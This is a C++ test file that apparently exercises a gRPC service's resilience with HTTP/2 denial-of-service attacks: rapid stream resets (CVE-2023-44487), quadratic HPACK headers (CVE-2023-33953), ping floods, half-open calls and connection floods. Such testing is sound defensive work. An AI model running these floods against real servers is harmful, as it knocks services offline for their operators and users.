#include <chrono>
#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "tests/faults/attacks/attack.h"
#include "tests/faults/attacks/frames.h"
#include "tests/faults/attacks/raw_socket.h"
#include "tests/faults/attacks/tls_socket.h"

namespace tributary::testing {
namespace {

// CVE-2023-44487: streams that are reset as fast as they are opened.
void ResetStreams(const Target& target, const std::string& path) {
  OnConnections(target, [&](RawSocket& socket) {
    const std::string headers = CallHeaders(path);
    std::uint32_t stream = 1;
    for (bool open = true; open && !target.over;) {
      std::string bytes;
      for (int i = 0; i < 100; ++i, stream += 2) {
        bytes += Frame(kHeaders, kEndHeaders, stream, headers);
        bytes += Frame(kReset, 0, stream, std::string("\0\0\0\x08", 4));
      }
      open = socket.Send(bytes);
    }
  });
}

// CVE-2023-33953: a header of 100 MB in frames of a few bytes. gRPC 1.51 copies all that has come of the
// header at each frame.
void GrowHeader(const Target& target, RawSocket& socket, std::uint32_t stream) {
  // A value of 127 + 100,000,000 bytes, as HPACK's integer.
  std::string begin = "\x83\x86" + std::string("\0\1x\x7f", 4);
  std::uint32_t length = 100'000'000;
  for (; length >= 128; length >>= 7) begin += static_cast<char>(0x80 | (length & 0x7f));
  begin += static_cast<char>(length);
  if (!socket.Send(Frame(kHeaders, 0, stream, begin))) return;
  std::string bytes;
  for (int i = 0; i < 200; ++i) bytes += Frame(kContinuation, 0, stream, std::string(16, 'a'));
  while (!target.over && socket.Send(bytes)) {
  }
}

void SendEndlessHeader(const Target& target, bool after_a_call) {
  OnConnections(target, [&](RawSocket& socket) {
    std::uint32_t stream = 1;
    if (after_a_call) {
      if (!socket.Send(WholeCall(stream, CallHeaders("/grpc.health.v1.Health/Check")))) return;
      stream += 2;
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    GrowHeader(target, socket, stream);
  });
}

// The same while an upload is open, of which no more than its headers come.
void SendEndlessHeaderBesideAnUpload(const Target& target) {
  OnConnections(target, [&](RawSocket& socket) {
    if (!socket.Send(
            Frame(kHeaders, kEndHeaders, 1, CallHeaders("/tributary.v1.FederationService/SubmitUpdate"))))
      return;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
    GrowHeader(target, socket, 3);
  });
}

// Whole calls with these headers, as fast as they can be sent.
template <class AnySocket>
void Call(const Target& target, AnySocket& socket, const std::string& headers, std::uint32_t most) {
  std::uint32_t stream = 1;
  for (bool open = true; open && !target.over && stream < 2 * most;) {
    std::string bytes;
    for (int i = 0; i < 100; ++i, stream += 2)
      bytes += Frame(kHeaders, kEndHeaders | kEndStream, stream, headers);
    open = socket.Send(bytes);
  }
}

// gRPC answers these by itself: neither gate nor service sees them.
void CallNoPathOnManyConnections(const Target& target) {
  const std::string headers = "\x83\x86" + Literal("te", "trailers");
  std::vector<std::jthread> connections;
  for (int i = 0; i < 40; ++i) {
    connections.emplace_back(
        [&] { OnConnections(target, [&](RawSocket& socket) { Call(target, socket, headers, 2'000); }); });
  }
}

// The gate refuses them, and each connection has made no other call when it ends.
void CallWhatIsRefused(const Target& target) {
  const TlsIdentity identity(target);
  if (!identity.ok()) return;  // nothing is refused, so nothing passes
  const std::string headers = CallHeaders("/tributary.v1.FusionService/Watch");
  std::vector<std::jthread> connections;
  for (int i = 0; i < 40; ++i) {
    connections.emplace_back([&] {
      OnConnections(
          target, [&] { return TlsSocket(target.port, identity); },
          [&](TlsSocket& socket) { Call(target, socket, headers, 500); });
    });
  }
}

// Calls that the aggregator answers, from more addresses than can each have half of all calls.
void CallFromManyAddresses(const Target& target) {
  const std::string headers = CallHeaders("/grpc.health.v1.Health/Check");
  std::vector<std::jthread> connections;
  for (std::uint32_t i = 0; i < 60; ++i) {
    connections.emplace_back([&target, &headers, host = 2 + i % 8] {
      OnConnections(
          target, [&] { return RawSocket(target.port, host); },
          [&](RawSocket& socket) {
            std::uint32_t stream = 1;
            for (bool open = true; open && !target.over;) {
              std::string bytes;
              for (int call = 0; call < 100; ++call, stream += 2) bytes += WholeCall(stream, headers);
              open = socket.Send(bytes);
            }
          });
    });
  }
}

// Calls that are answered beside calls without a path: what the former pay for is used up by the latter.
void CallNoPathBesideCalls(const Target& target) {
  const std::string call = CallHeaders("/tributary.v1.FederationService/Participate");
  const std::string garbage = "\x83\x86" + Literal("te", "trailers");
  std::vector<std::jthread> connections;
  for (int i = 0; i < 16; ++i) {
    connections.emplace_back([&] {
      OnConnections(target, [&](RawSocket& socket) {
        std::uint32_t stream = 1;
        for (bool open = true; open && !target.over;) {
          std::string bytes;
          for (int n = 0; n < 10; ++n, stream += 2) bytes += WholeCall(stream, call);
          for (int n = 0; n < 40; ++n, stream += 2)
            bytes += Frame(kHeaders, kEndHeaders | kEndStream, stream, garbage);
          open = socket.Send(bytes);
        }
      });
    });
  }
}

// CVE-2019-9512: gRPC answers each ping by itself, and nobody reads the answers.
void SendPings(const Target& target) {
  std::string bytes;
  for (int i = 0; i < 1000; ++i) bytes += Frame(kPing, 0, 0, std::string(8, 'p'));
  OnConnections(target, [&](RawSocket& socket) {
    while (!target.over && socket.SendOnly(bytes)) {
    }
  });
}

// Calls of which only the headers come, which gRPC does not count. The first call of each connection is
// whole: a connection without a call may not send much.
template <class AnySocket>
void OpenHalfCalls(const Target& target, AnySocket& socket) {
  const std::string headers = CallHeaders("/tributary.v1.FederationService/Participate");
  std::uint32_t stream = 1;
  bool open = socket.Send(WholeCall(stream, CallHeaders("/grpc.health.v1.Health/Check")));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  for (int i = 0; i < 1000 && open && !target.over; ++i) {
    open = socket.Send(Frame(kHeaders, kEndHeaders, stream += 2, headers));
  }
  while (open && !target.over) {
    open = socket.Send(Frame(kSettings, 0, 0, ""));
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
}

void OpenHalfCallsOnManyConnections(const Target& target) {
  std::vector<std::jthread> connections;
  for (int i = 0; i < 60; ++i) {
    connections.emplace_back(
        [&] { OnConnections(target, [&](RawSocket& socket) { OpenHalfCalls(target, socket); }); });
  }
}

void OpenHalfCallsOfANode(const Target& target) {
  const TlsIdentity identity(target);
  if (!identity.ok()) return;  // nothing is refused, so nothing passes
  std::vector<std::jthread> connections;
  for (int i = 0; i < 12; ++i) {
    connections.emplace_back([&] {
      OnConnections(
          target, [&] { return TlsSocket(target.port, identity); },
          [&](TlsSocket& socket) { OpenHalfCalls(target, socket); });
    });
  }
}

constexpr Attack kAttacks[] = {
    {"reset_participate",
     [](const Target& target) { ResetStreams(target, "/tributary.v1.FederationService/Participate"); }},
    {"reset_report",
     [](const Target& target) { ResetStreams(target, "/tributary.v1.FusionService/Report"); }},
    {"reset_list_nodes",
     [](const Target& target) { ResetStreams(target, "/tributary.v1.FleetService/ListNodes"); }},
    {"quadratic_headers_beside_an_upload", SendEndlessHeaderBesideAnUpload},
    {"calls_without_a_path", CallNoPathOnManyConnections},
    {"calls_without_a_path_beside_calls", CallNoPathBesideCalls},
    {"refused_calls", CallWhatIsRefused},
    {"calls_from_many_addresses", CallFromManyAddresses},
    {"pings", SendPings},
    {"half_calls", OpenHalfCallsOnManyConnections},
    {"half_calls_of_a_node", OpenHalfCallsOfANode},
    {"quadratic_headers", [](const Target& target) { SendEndlessHeader(target, false); }},
    {"quadratic_headers_after_a_call", [](const Target& target) { SendEndlessHeader(target, true); }},
};

}  // namespace

std::span<const Attack> FrameAttacks() { return kAttacks; }

}  // namespace tributary::testing
